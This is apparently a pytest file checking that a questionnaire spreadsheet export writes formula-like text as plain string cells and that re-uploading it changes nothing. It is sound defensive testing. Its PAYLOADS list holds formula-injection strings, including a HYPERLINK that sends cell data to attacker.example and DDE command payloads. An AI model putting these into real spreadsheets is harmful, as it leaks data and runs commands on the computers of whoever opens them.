"""The questionnaire writes every text as text, and reads back what the state typed.

A text that starts like a formula is a string cell in the download (never a formula
Excel would run), and a file uploaded as downloaded changes nothing.
"""

import io
import re
import zipfile

import pytest
from openpyxl import load_workbook

from recommendations.models import ProgressUpdate
from recommendations.services import MeasureData, NeedData
from tests import factories
from tests.spreadsheets import DOWNLOAD, row_of, to_file, upload

pytestmark = pytest.mark.django_db

# Columns of the sheet "Questionnaire".
STATUS, SUMMARY, NARRATIVE, CHALLENGES = 6, 7, 8, 11
PAYLOADS = [
    "=1+1",
    '=HYPERLINK("https://attacker.example/?d="&B2,"Details")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-5 victims assisted",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "#N/A",
    "'quoted by the state",
]


@pytest.fixture
def drafts(focal_mex, mexico):
    """Mexico's drafts: on recommendation n, every text of it is PAYLOADS[n - 1]."""
    return [
        factories.progress_update(
            mexico,
            number,
            author=focal_mex,
            steps=[],
            summary=payload,
            narrative=payload,
            challenges=payload,
            measures=[MeasureData(kind="policy", title=payload)],
            assistance_needs=[NeedData(kind="training", description=payload)],
        )
        for number, payload in enumerate(PAYLOADS, start=1)
    ]


def download_bytes(client) -> bytes:
    response = client.get(DOWNLOAD.format(iso3="MEX"))
    assert response.status_code == 200
    return response.content


def texts(update) -> tuple:
    return (
        update.summary,
        update.narrative,
        update.challenges,
        [m.title for m in update.measures.all()],
        [n.description for n in update.assistance_needs.all()],
    )


def test_every_typed_text_is_a_text_cell_never_a_formula(client, focal_mex, drafts):
    client.force_login(focal_mex)
    data = download_bytes(client)
    workbook = load_workbook(io.BytesIO(data))  # formulas as formulas, not values

    sheet = workbook["Questionnaire"]
    for number, payload in enumerate(PAYLOADS, start=1):
        row = row_of(sheet, number)
        for column in (SUMMARY, NARRATIVE, CHALLENGES):
            cell = sheet.cell(row=row, column=column)
            assert (cell.value, cell.data_type) == (payload, "s"), cell.coordinate
            # Excel's "quote prefix": editing keeps it text, with its apostrophe.
            assert cell.quotePrefix == (payload != "#N/A"), cell.coordinate
    for title in ("Measures", "Assistance needs"):
        cells = {cell.value: cell for cell in workbook[title]["C"]}
        for payload in PAYLOADS:
            assert cells[payload].data_type == "s", (title, payload)
    for each in workbook:
        for row in each.iter_rows():
            for cell in row:
                assert cell.data_type not in ("f", "e"), (each.title, cell.coordinate)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", archive.read(name)), name


def test_a_file_uploaded_as_downloaded_changes_nothing(client, focal_mex, drafts):
    client.force_login(focal_mex)
    before = {update.pk: texts(update) for update in drafts}
    workbook = load_workbook(io.BytesIO(download_bytes(client)))

    response = upload(client, to_file(workbook))

    assert response.status_code == 302, response.content.decode()
    page = client.get(response["Location"]).content.decode()
    assert "The questionnaire changed nothing" in page
    for update in ProgressUpdate.objects.filter(pk__in=before):
        assert update.version == 1
        assert texts(update) == before[update.pk]


def typed_in_excel(cell, shown: str) -> None:
    """What Excel stores when a person types an apostrophe and then ``shown``: the
    text, with the "quote prefix" style; the apostrophe is not part of the value."""
    cell.value = shown
    cell.data_type = "s"
    cell.quotePrefix = True


def test_texts_typed_in_excel_are_saved_as_the_state_sees_them(
    client, focal_mex, drafts
):
    client.force_login(focal_mex)
    workbook = load_workbook(io.BytesIO(download_bytes(client)))
    sheet = workbook["Questionnaire"]
    row = row_of(sheet, 10)
    sheet.cell(row=row, column=STATUS, value="Planned")
    # Typed as '-5 victims assisted, '=1+1 and ''quoted: Excel shows the text after
    # the first apostrophe.
    typed_in_excel(sheet.cell(row=row, column=SUMMARY), "-5 victims assisted")
    typed_in_excel(sheet.cell(row=row, column=NARRATIVE), "=1+1")
    typed_in_excel(sheet.cell(row=row, column=CHALLENGES), "'quoted")
    measures = workbook["Measures"]
    measures.append([10, "Training", None])
    typed_in_excel(measures.cell(row=measures.max_row, column=3), "@inspectors")
    # And an existing draft's summary, changed to another text that looks like one.
    typed_in_excel(sheet.cell(row=row_of(sheet, 1), column=SUMMARY), "+2 shelters")

    response = upload(client, to_file(workbook))

    assert response.status_code == 302, response.content.decode()
    new = ProgressUpdate.objects.get(recommendation__number=10)
    assert (new.summary, new.narrative, new.challenges) == (
        "-5 victims assisted",
        "=1+1",
        "'quoted",
    )
    assert list(new.measures.values_list("title", flat=True)) == ["@inspectors"]
    first = ProgressUpdate.objects.get(recommendation__number=1)
    assert (first.summary, first.narrative) == ("+2 shelters", "=1+1")
    # The other drafts, left as downloaded, did not change.
    for update in ProgressUpdate.objects.filter(recommendation__number__in=[2, 5, 8]):
        assert update.version == 1
    assert ProgressUpdate.objects.get(recommendation__number=8).summary == (
        "'quoted by the state"
    )
